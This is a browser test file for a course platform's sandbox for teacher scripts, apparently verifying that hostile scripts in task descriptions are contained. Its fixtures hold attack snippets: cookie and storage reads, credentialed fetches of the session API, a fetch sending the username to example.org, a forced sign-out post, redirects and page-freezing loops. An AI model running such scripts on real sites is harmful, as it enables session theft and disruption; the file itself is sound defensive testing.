/** Scripts of teachers run in a frame that can reach nothing outside it, and cannot stop the page. */
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { BrowserContextOptions, FrameLocator, Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { DESKTOP, findBarriers, LOOKS, overflowOf } from '../support/browser/browser.ts';
import { sharedSite } from '../support/browser/site.ts';

const site = sharedSite();

const indented = (text: string, by: number): string => text.replace(/^(?=.)/gm, ' '.repeat(by));

/** A task whose description has this HTML after some words, and whose problem has that header. */
async function writeTask(id: string, html: string, header = ''): Promise<void> {
  const folder = join(site.server.courses, 'demo', id);
  await mkdir(join(folder, 'public'), { recursive: true });
  await writeFile(
    join(folder, 'task.yaml'),
    `name: Task ${id}
accessible: true
environment_type: mcq
input_random: 2
context: |
  Plain words.

  .. raw:: html

${indented(html, 5)}
problems:
  q1:
    type: match
    name: Question
    answer: x
    header: |
      .. raw:: html

${indented(header, 9)}
`,
  );
}

const DATA = 'function half(n) { return n / 2; }';
/** Each says what it could do. The texts of errors differ from browser to browser. */
const ATTEMPTS = `<ul id="out"></ul><script>
const say = (what, how) => { const li = document.createElement('li'); li.textContent = what + ': ' + how; out.append(li); };
const attempt = (what, act) => { try { const got = act(); say(what, got === undefined || got === '' || got === null ? 'nothing' : 'got ' + got); } catch { say(what, 'refused'); } };
attempt('cookie', () => document.cookie);
attempt('storage', () => localStorage.length);
attempt('session storage', () => sessionStorage.length);
attempt('database', () => indexedDB.open('x') && 'asked');
attempt('parent document', () => parent.document.title);
attempt('top document', () => top.document.body.innerHTML);
attempt('parent address', () => parent.location.href);
attempt('frame element', () => frameElement && 'element');
attempt('popup', () => open('/courses'));
attempt('top navigation', () => { top.location = '/environments'; return 'went'; });
attempt('form', () => { const f = document.createElement('form'); f.method = 'post'; f.action = '/sign-out'; document.body.append(f); f.submit(); });
const asked = (what, promise) => promise.then(() => say(what, 'got an answer'), () => say(what, 'refused'));
const image = (src) => new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = src; });
Promise.all([
  asked('fetch', fetch('/api/session', { credentials: 'include' })),
  asked('fetch of the page', fetch('/courses', { credentials: 'include' })),
  asked('blind fetch', fetch('/api/session', { mode: 'no-cors', credentials: 'include' })),
  asked('worker', new Promise((yes, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = yes; w.onerror = no; })),
  asked('picture', image('/assets/favicon.svg')),
  asked('fetch elsewhere', fetch('https://example.org/?' + input['@username'])),
]).then(() => { const p = document.createElement('p'); p.id = 'done'; p.textContent = 'done'; document.body.append(p); });
</script>`;

beforeAll(async () => {
  await writeTask(
    'live',
    `<p>Half of <b id="n">?</b> is <b id="halved">?</b>.</p>
<script src="live/data.js"></script>
<script>document.write('<p>Written: ' + input['@random'].length + '</p>');
n.textContent = Math.round(input['@random'][0] * 100); halved.textContent = half_(n.textContent);
function half_(x) { return window.half_of(x); }</script>
<p><a href="live/notes.txt">Notes</a> <button onclick="grown.hidden = false">More</button></p><div id="grown" hidden style="height: 900px">Grown</div>`,
    `<p>Double: <i id="d">?</i></p><script>$('#d').text(window.half_of(8));</script>`,
  );
  const folder = join(site.server.courses, 'demo/live/public');
  await writeFile(join(folder, 'data.js'), `${DATA}\nwindow.half_of = half;`);
  await writeFile(join(folder, 'notes.txt'), 'notes');
  await writeTask('attempts', ATTEMPTS);
  await writeTask('endless', '<p id="w">Waiting.</p><script>for (;;) {}</script>');
  await writeTask('late', '<p>First.</p><script>setTimeout(() => { for (;;) {} }, 300)</script>');
  await writeTask(
    'flood',
    '<p>Flood.</p><script>setInterval(() => { for (let i = 0; i < 1000; i += 1) parent.postMessage({ height: Math.random() * 1e9 }, "*") }, 1)</script>',
  );
  await writeTask(
    'heavy',
    '<p>Heavy.</p><script>const big = "x".repeat(2 ** 22); setInterval(() => parent.postMessage({ open: big, height: 1e9 }, "*"), 100)</script>',
  );
  await writeTask(
    'high',
    '<div style="height: 400000px">High</div><script>parent.postMessage({ height: 1e308 }, "*"); parent.postMessage({ height: -5 }, "*"); parent.postMessage({ height: "9px" }, "*"); parent.postMessage(null, "*"); parent.postMessage({ get height() { return 1 } }, "*");</script>',
  );
  await writeTask(
    'away',
    '<p>Away.</p><script>setTimeout(() => { location = "https://example.org/?stolen" }, 200); setTimeout(() => { location = "/courses" }, 900)</script>',
  );
});

async function open(id: string, options: BrowserContextOptions = DESKTOP) {
  const visit = await site.visit('student', options);
  await visit.page.goto(`/courses/demo/tasks/${id}`);
  return visit;
}

const description = (page: Page): FrameLocator => page.frameLocator('iframe[title^="Description"]');
const frameOf = (page: Page) => page.locator('iframe[title^="Description"]');
const heightOf = async (page: Page): Promise<number> => (await frameOf(page).boundingBox())?.height ?? 0;

/** The page itself, not its frame, answers what its reader does. */
async function staysUsable(page: Page): Promise<void> {
  await page.locator('#problem-q1 input').fill('an answer');
  expect(await page.locator('#problem-q1 input').inputValue()).toBe('an answer');
}

const COLOUR = 'getComputedStyle(document.body).color';

describe('a statement with scripts', () => {
  test('runs them: its own file, document.write, @random, and what the description made for its problem', async () => {
    const { context, page, complaints } = await open('live');
    const frame = description(page);
    await frame.getByText('Written: 2').waitFor();
    const n = Number(await frame.locator('#n').textContent());
    expect(Number(await frame.locator('#halved').textContent())).toBe(n / 2);
    const shown = JSON.parse((await page.locator('input[name="@random"]').getAttribute('value')) ?? '');
    expect(n).toBe(Math.round(shown[0] * 100));
    await page.frameLocator('iframe[title^="Question"]').getByText('Double: 4').waitFor();
    expect(await page.getByText('Plain words.').isVisible()).toBe(false);
    expect(complaints).toEqual([]);
    await context.close();
  });

  test('is as high as its content, and grows with it; keys reach its buttons', async () => {
    const { context, page } = await open('live');
    await description(page).getByText('Written: 2').waitFor();
    const before = await heightOf(page);
    const inner = await description(page)
      .locator('html')
      .evaluate((html) => html.scrollHeight);
    expect(Math.abs(before - inner)).toBeLessThanOrEqual(2);
    await description(page).getByRole('link', { name: 'Notes' }).focus();
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect.poll(() => heightOf(page), { timeout: 30_000 }).toBeGreaterThan(before + 850);
    await context.close();
  });

  test('opens a link in a window of its own, as other statements do', async () => {
    const { context, page } = await open('live');
    await description(page).getByText('Written: 2').waitFor();
    const [opened] = await Promise.all([
      context.waitForEvent('page'),
      description(page).getByRole('link', { name: 'Notes' }).click(),
    ]);
    await opened.waitForURL('**/course/demo/live/notes.txt');
    expect(await opened.evaluate('window.opener')).toBeNull();
    await context.close();
  });

  test('is there without scripts where the browser runs none', async () => {
    const { context, page } = await open('live', { ...DESKTOP, javaScriptEnabled: false });
    await page.getByText('Plain words.').waitFor();
    expect(await page.locator('iframe').count()).toBe(0);
    await context.close();
  });

  for (const [look, options] of Object.entries(LOOKS)) {
    test(`has no barrier, and fits (${look})`, async () => {
      const { context, page } = await open('live', options);
      await description(page).getByText('Written: 2').waitFor();
      expect(await findBarriers(page)).toEqual([]);
      expect(await overflowOf(page)).toBe(0);
      const inner = page.frames().find((frame) => frame.url().includes('/tasks/live/frame?'));
      expect(await inner?.evaluate(COLOUR)).toBe(await page.evaluate(COLOUR));
      const shots = process.env['GRADEPORT_SHOTS'];
      if (shots !== undefined)
        await page.screenshot({ path: `${shots}/${look.replace(', ', '-')}.png`, fullPage: true });
      await context.close();
    });
  }
});

describe('a hostile statement', () => {
  test('reaches no cookie, storage, document, network or window', async () => {
    const { context, page } = await open('attempts');
    await description(page).locator('#done').waitFor();
    const said = await description(page).locator('#out li').allTextContents();
    const results = Object.fromEntries(said.map((line) => line.split(': ')));
    expect(results).toEqual({
      cookie: 'refused',
      storage: 'refused',
      'session storage': 'refused',
      database: 'refused',
      'parent document': 'refused',
      'top document': 'refused',
      'parent address': 'refused',
      'frame element': 'nothing',
      popup: 'nothing',
      'top navigation': 'refused',
      worker: 'refused',
      form: 'nothing',
      fetch: 'refused',
      'fetch of the page': 'refused',
      'blind fetch': 'refused',
      picture: 'refused',
      'fetch elsewhere': 'refused',
    });
    expect(page.url()).toContain('/tasks/attempts');
    expect(context.pages()).toHaveLength(1);
    await page.reload();
    await page.getByRole('button', { name: 'Sign out' }).waitFor();
    await context.close();
  });

  test.each(['endless', 'late'])('that never ends leaves the page usable: %s', async (id) => {
    const { context, page } = await open(id);
    await staysUsable(page);
    if (id === 'endless') expect(await page.getByText('Plain words.').isVisible()).toBe(true);
    await context.close();
  });

  test('that floods the page with messages is taken away, and its text stays', async () => {
    const { context, page } = await open('flood');
    await page.getByText('The scripts of this text went too far').waitFor();
    expect(await page.getByText('Plain words.').isVisible()).toBe(true);
    expect(await frameOf(page).count()).toBe(0);
    await staysUsable(page);
    await context.close();
  });

  test.each(['heavy', 'high'])('is no higher than a page may be, and opens nothing: %s', async (id) => {
    const { context, page } = await open(id);
    await expect.poll(() => heightOf(page), { timeout: 30_000 }).toBeGreaterThan(19_000);
    expect(await heightOf(page)).toBeLessThanOrEqual(20_000);
    await staysUsable(page);
    expect(context.pages()).toHaveLength(1);
    await context.close();
  });

  test('leads its frame nowhere', async () => {
    const { context, page } = await site.visit('student');
    const asked: string[] = [];
    page.on('request', (request) => asked.push(request.url()));
    await page.goto('/courses/demo/tasks/away');
    await page.getByText('The scripts of this text went too far').waitFor();
    expect(await page.getByText('Plain words.').isVisible()).toBe(true);
    expect(asked.some((url) => url.includes('/tasks/away/frame'))).toBe(true);
    expect(asked.filter((url) => url.includes('example.org'))).toEqual([]);
    await staysUsable(page);
    await context.close();
  });
});
